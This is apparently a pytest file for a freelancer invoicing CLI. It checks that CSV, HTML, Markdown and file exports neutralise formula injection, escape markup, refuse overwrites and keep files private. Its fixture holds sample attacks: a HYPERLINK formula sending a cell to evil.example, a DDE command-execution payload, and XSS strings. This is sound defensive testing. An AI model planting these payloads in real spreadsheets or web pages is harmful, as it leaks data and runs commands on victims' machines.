"""Exports that can't hurt: formula-safe CSV everywhere, escaped HTML, no silent
overwrite, private files whatever the umask, receipts copied and never linked."""

from __future__ import annotations

import csv
import io
import os
import re
import stat
from collections.abc import Iterator
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from tests.conftest import Psa

NUMBER = re.compile(r"-?\d+(\.\d+)?")
FORMULA = ("=", "+", "-", "@", "\t", "\r")
CLIENT = '=HYPERLINK("http://evil.example/?"&A1,"click")'
NOTE = "@SUM(1+1)*cmd|' /C calc'!A0"
TASK = "+1+cmd"
EXPENSE = "-2+3 <b>taxi</b>"


@pytest.fixture
def hostile(psa: Psa) -> Psa:
    """A ledger whose client-supplied text is all formula bait and markup."""
    psa("init", "--name", "Jane <Doe> & Co", "--currency", "EUR", "--rate", "100")
    psa("client", "add", CLIENT, "--code", "evil", "--rate", "120", "--tax-rate", "20",
        "--address", "<script>alert('addr')</script>\n1 rue X")  # fmt: skip
    psa("project", "add", "evil", "=2+5 <i>project</i>", "--code", "web")
    psa("task", "add", "web", TASK)
    psa("log", "1h", "web", NOTE, "--task", TASK, "--tag", "-tag", "--date", "2026-11-02")
    psa("log", "30m", "web", "<img src=x onerror=alert(1)>", "--date", "2026-11-03")
    psa("expense", "add", "--date", "2026-11-02", "--", "12.50", "web", EXPENSE)
    psa("invoice", "create", "evil", "--group-by", "entry")
    psa("invoice", "edit", "1", "--notes", "<script>alert('notes')</script>", "--po", "=1+1")
    psa("invoice", "issue", "1")
    psa("invoice", "pay", "INV-2026-0001", "10", "--reference", "=HYPERLINK(1)")
    return psa


def _cells(text: str) -> Iterator[str]:
    for row in csv.reader(io.StringIO(text)):
        yield from row


def _assert_formula_safe(text: str, what: str) -> int:
    """No cell a spreadsheet would evaluate; returns how many cells were neutralised."""
    neutralised = 0
    for cell in _cells(text):
        if cell.startswith(FORMULA):
            assert NUMBER.fullmatch(cell), f"{what}: formula cell {cell!r}"
        neutralised += cell.startswith("'") and cell[1:].startswith(FORMULA)
    return neutralised


CSV_COMMANDS = [
    ("entries",),
    ("expense", "list"),
    ("client", "list"),
    ("client", "show", "evil"),
    ("project", "list"),
    ("task", "list", "web"),
    ("invoice", "list"),
    ("invoice", "show", "INV-2026-0001"),
    ("report", "timesheet", "--month", "2026-11", "--by", "task"),
    ("report", "timesheet", "--month", "2026-11", "--by", "client"),
    ("report", "unbilled"),
    ("report", "aging"),
    ("report", "profitability", "--from", "2026-11-01", "--to", "2026-11-30"),
    ("report", "revenue", "--from", "2026-11-01", "--to", "2026-11-30"),
    ("audit",),
]


def test_every_csv_writer_neutralises_formulas(hostile: Psa) -> None:
    total = 0
    for command in CSV_COMMANDS:
        out = hostile(*command, "--format", "csv").stdout
        total += _assert_formula_safe(out, " ".join(command))
    total += _assert_formula_safe(hostile("export", "csv").stdout, "export csv")
    exported = hostile("invoice", "export", "INV-2026-0001", "--to", "csv").stdout
    _assert_formula_safe(exported, "invoice export --to csv")
    assert NOTE in exported  # the bait is there, inside a line's description
    # the bait reached the CSVs (neutralised, not dropped): entries, tasks, clients, audit
    assert total >= 10
    entries = set(_cells(hostile("entries", "--format", "csv").stdout))
    assert {"'" + NOTE, "'" + TASK, "'-tag"} <= entries
    assert "'" + CLIENT in set(_cells(hostile("client", "list", "--format", "csv").stdout))


@given(
    st.text(max_size=12)
    | st.sampled_from(
        ["-1", "-12.50", "+1", "-inf", "\t5", "-1_0", "1e5", "-nan", "=1", "@a", "\r1", "-"]
    )
)
def test_csv_cells_are_neutralised_whatever_the_text(text: str) -> None:
    from psa_cli.cli.stream import csv_cell
    from psa_cli.formats.invoice_text import safe_cell

    for cell in (csv_cell(text), safe_cell(text)):
        assert not cell.startswith(FORMULA) or NUMBER.fullmatch(cell), repr(cell)
        assert cell in (text, "'" + text)


def test_html_and_markdown_escape_client_text(hostile: Psa, tmp_path: Path) -> None:
    page = tmp_path / "inv.html"
    hostile("invoice", "export", "INV-2026-0001", "--to", "html", "-o", str(page))
    html = page.read_text()
    assert "<script>" not in html and "<img" not in html and "<b>" not in html
    assert "&lt;script&gt;alert(&#x27;addr&#x27;)&lt;/script&gt;" in html
    assert "&lt;script&gt;alert(&#x27;notes&#x27;)&lt;/script&gt;" in html
    assert "&lt;img src=x onerror=alert(1)&gt;" in html
    assert "Jane &lt;Doe&gt; &amp; Co" in html
    markdown = hostile("invoice", "export", "INV-2026-0001", "--to", "md").stdout
    assert not re.search(r"(?<!\\)[<>]", markdown), "an unescaped < or > in the Markdown"
    assert r"\<img src=x onerror=alert(1)\>" in markdown


def _mode(path: Path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


def test_no_writer_overwrites_without_force(hostile: Psa, tmp_path: Path) -> None:
    writers = [
        ("invoice", "export", "INV-2026-0001", "--to", "json", "-o"),
        ("invoice", "export", "INV-2026-0001", "--to", "html", "-o"),
        ("export", "beancount", "-o"),
        ("export", "hledger", "-o"),
        ("export", "csv", "-o"),
        ("export", "json", "--all", "-o"),
        ("db", "backup"),
    ]
    for n, command in enumerate(writers):
        target = tmp_path / f"existing-{n}"
        target.write_text("precious")
        line = hostile.fail(*command, str(target))
        assert line.endswith("exists: choose another file or add --force to overwrite"), line
        assert target.read_text() == "precious"
        hostile(*command, str(target), "--force")
        assert target.read_bytes() != b"precious" and _mode(target) == 0o600
        # never onto the ledger itself, --force or not
        line = hostile.fail(*command, str(hostile.ledger), "--force")
        assert "is the ledger itself" in line, line
    folder = tmp_path / "all"
    folder.mkdir()
    (folder / "INV-2026-0001.md").write_text("precious")
    hostile.fail("invoice", "export", "INV-2026-0001", "--to", "all", "-o", str(folder))
    assert [p.name for p in folder.iterdir()] == ["INV-2026-0001.md"], "nothing half-written"


def test_money_files_are_private_whatever_the_umask(psa: Psa, tmp_path: Path) -> None:
    old = os.umask(0)  # the most permissive umask: nothing may come out world-readable
    try:
        psa("init", "--name", "Jane", "--currency", "EUR", "--rate", "100")
        psa("client", "add", "ACME", "--code", "acme", "--rate", "120", "--address", "1 rue X",
            "--country", "FR")  # fmt: skip
        psa("project", "add", "acme", "Web", "--code", "web")
        receipt = tmp_path / "ticket.pdf"
        receipt.write_bytes(b"%PDF receipt")
        psa("log", "1h", "web", "x", "--date", "2026-11-02")
        psa("expense", "add", "5", "web", "Taxi", "--receipt", str(receipt))
        psa("invoice", "create", "acme")
        psa("invoice", "issue", "1")
        out = tmp_path / "out"
        psa("invoice", "export", "INV-2026-0001", "--to", "json", "-o", str(out / "i.json"))
        psa("invoice", "export", "INV-2026-0001", "--to", "html", "-o", str(out / "i.html"))
        psa("export", "beancount", "-o", str(tmp_path / "books.beancount"))
        psa("export", "json", "--all", "-o", str(tmp_path / "all.json"))
        psa("export", "csv", "-o", str(tmp_path / "entries.csv"))
        psa("db", "backup", str(tmp_path / "copy.db"))
        psa("db", "backup")
        files = [psa.ledger, out / "i.json", out / "i.html", tmp_path / "books.beancount",
                 tmp_path / "all.json", tmp_path / "entries.csv",
                 tmp_path / "copy.db", Path(os.environ["PSA_CONFIG"])]  # fmt: skip
        files += list((psa.ledger.parent / "backups").iterdir())
        files += [p for p in psa.ledger.parent.rglob("*") if p.is_file()]  # receipts too
        for path in files:
            assert _mode(path) == 0o600, f"{path} is {oct(_mode(path))}"
        assert _mode(psa.ledger.parent) == 0o700
    finally:
        os.umask(old)


def test_receipts_are_copied_never_linked(psa: Psa, tmp_path: Path) -> None:
    psa("init", "--name", "Jane", "--currency", "EUR", "--rate", "100")
    psa("client", "add", "ACME", "--code", "acme")
    psa("project", "add", "acme", "Web", "--code", "web")
    original = tmp_path / "ticket.pdf"
    original.write_bytes(b"%PDF-1.4 the receipt as it was")
    link = tmp_path / "link.pdf"
    link.symlink_to(original)
    psa("expense", "add", "5", "web", "Taxi", "--receipt", str(original))
    psa("expense", "add", "6", "web", "Bus", "--receipt", str(link))
    stored = [psa.ledger.parent / e["receipt"] for e in psa.json("expense", "list")]
    assert stored[0] == stored[1]  # same content, stored once under its SHA-256
    original.write_bytes(b"%PDF-1.4 changed afterwards")
    kept = stored[0]
    assert kept.read_bytes() == b"%PDF-1.4 the receipt as it was"
    assert not kept.is_symlink() and kept.stat().st_nlink == 1
    assert kept.stat().st_ino != original.stat().st_ino
    assert _mode(kept) == 0o600
